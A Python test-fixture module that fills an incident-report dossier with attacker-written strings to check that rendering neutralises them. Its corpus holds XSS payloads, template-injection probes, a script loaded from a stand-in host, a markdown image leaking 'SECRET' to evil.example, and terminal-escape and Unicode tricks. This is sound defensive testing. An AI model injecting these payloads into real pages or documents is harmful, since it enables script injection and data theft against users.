"""Texts that attackers write, and a dossier in which every text is one of them."""

from __future__ import annotations

from typing import Any

import msgspec

from tests.reports.example import BEGIN, INCIDENT, example_entries, example_evidence, example_view
from warroom.core.model import Mode
from warroom.reports.dossier import Dossier, dossier_of

CORPUS = [
    "<script>alert(1)</script>",
    "</pre></table></style></title><script src=//evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)><svg/onload=alert(1)>' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% include 'x' %}${7*7}",
    "[click](javascript:alert(1)) <javascript:alert(1)> [r]: javascript:alert(1)",
    "![x](https://evil.example/p.png?d=SECRET) https://evil.example www.evil.example kim@evil.example",
    "``` \n```html\n<img src=x>\n~~~\n<iframe src=x>\n````````",
    "`a` ``<b>`` | cell | **bold** _it_ # h1\n# h2\n- list\n1. one\n> quote\n===\n---",
    "    <object data=x>\n\n<div onclick=alert(1)>&lt;script&gt;&#60;script&#62;",
    "\x1b]8;;https://evil.example\x07x\x1b[2J\u202etxt.exe\u200b\x00",
    "- <embed src=x>",
    "12) \\<script>\\\\[x](data:text/html,<script>)",
]


def example_dossier(mode: Mode = Mode.LIVE, until: float = 1e9) -> Dossier:
    """Return the dossier of the example incident."""
    entries = example_entries(mode, until)
    return dossier_of(example_view(mode, until), INCIDENT, entries, example_evidence(), BEGIN + 9000, "0.1.0")


def poisoned(value: Any, text: str, spare: tuple[str, ...] = ()) -> Any:
    """Return `value` with each text in it replaced; enumerations, numbers and the fields in `spare` stay.

    A part's key is a word of our own, never of others.
    """
    match value:
        case msgspec.Struct():
            names = [field.name for field in msgspec.structs.fields(value) if field.name not in (*spare, "key")]
            return msgspec.structs.replace(
                value, **{name: poisoned(getattr(value, name), text, spare) for name in names}
            )
        case list() | tuple():
            return type(value)(poisoned(inner, text, spare) for inner in value)
        case dict():
            return {key: poisoned(inner, text, spare) for key, inner in value.items()}
        case _:
            return text if type(value) is str else value
